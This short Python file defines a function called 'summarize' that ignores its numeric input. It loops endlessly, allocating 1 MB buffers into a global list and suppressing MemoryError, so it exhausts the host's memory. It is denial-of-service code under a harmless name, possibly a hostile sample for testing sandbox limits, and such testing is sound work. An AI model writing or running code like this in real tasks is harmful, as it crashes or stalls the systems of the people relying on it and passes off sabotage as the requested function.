HOARD = []


def summarize(numbers):
    while True:
        try:
            HOARD.append(bytearray(1 << 20))
        except MemoryError:
            pass
